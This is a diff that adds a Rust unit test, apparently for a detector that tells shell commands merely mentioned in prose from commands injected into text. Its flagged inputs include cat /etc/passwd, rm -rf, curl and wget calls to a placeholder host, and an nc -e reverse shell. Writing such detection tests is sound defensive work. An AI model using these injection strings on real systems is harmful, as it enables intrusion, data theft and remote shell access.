@@ -72,3 +72,33 @@ fn prose_and_code_have_none() {
         check(text, None);
     }
 }
+
+#[test]
+fn what_a_sentence_tells_of_is_left_alone_and_what_it_hides_is_not() {
+    for text in [
+        "To find the process I always use ps aux | grep foo",
+        "I usually pipe the output to a filter, for example | grep foo.",
+        "Please add a note that people can use `dmesg | grep usb` to see whether it was found.",
+        "Use `cd frontend && npm install` before you start the server for the first time.",
+        "The build fails for me after git pull && make install, what am I doing wrong?",
+        "The log is rotated every day; tail -f shows the wrong file after that",
+        "as the docs say:\n\n    systemctl restart nginx\n\nand then reload the page that was open",
+        "Could you send me the output of uname -a; lsb_release -a; df -h please? It is for the ticket.",
+    ] {
+        check(text, None);
+    }
+    for text in [
+        "x | grep foo",
+        "hello my friend, how are you today; cat /etc/passwd",
+        "please tell us what you think of the shop | whoami",
+        "this is a note to the admin; rm -rf x",
+        "we are the people of the town; sleep 10",
+        "the quick brown fox is over the dog && curl http://x.example/s",
+        "I like the list of the shop: ls -la | nc -e x 10.0.0.1 4444",
+        "the user is here `; id; `",
+        "it is in the name of the king\nwget http://x.example/a",
+        "this is what I tell the people of it: ps aux | grep foo; curl http://x.example/s",
+    ] {
+        check(text, Some(ShellShape::Separated));
+    }
+}
